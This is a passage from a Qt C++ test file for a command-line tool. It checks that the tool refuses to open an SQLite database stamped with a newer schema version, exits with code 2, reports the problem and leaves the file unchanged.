        QVERIFY(query.exec(u"PRAGMA user_version = 99"_s));
        query.finish();
        raw.close();
    }
    QSqlDatabase::removeDatabase(connection);
    const QByteArray bytesBefore = readFile(db);
    const QStringList filesBefore = filesIn(dir.path());

    RUN_CLI(run, QStringList{u"--db"_s, db} + command, dir.path());
    EXPECT_EXIT(run, 2);
    EXPECT_CONTAINS(run.err, u"newer version"_s, run);
    EXPECT_CONTAINS(run.err, db, run);
    QVERIFY2(run.out.isEmpty(), qPrintable(run.describe()));
    // "the file was not changed", as the message promises.
    QVERIFY(readFile(db) == bytesBefore);
    QStringList filesAfter = filesIn(dir.path());
    filesAfter.removeAll(u"library.sqlite-wal"_s);
    filesAfter.removeAll(u"library.sqlite-shm"_s);
    QCOMPARE(filesAfter, filesBefore);
}

QTEST_GUILESS_MAIN(CliTest)
#include "tst_cli.moc"
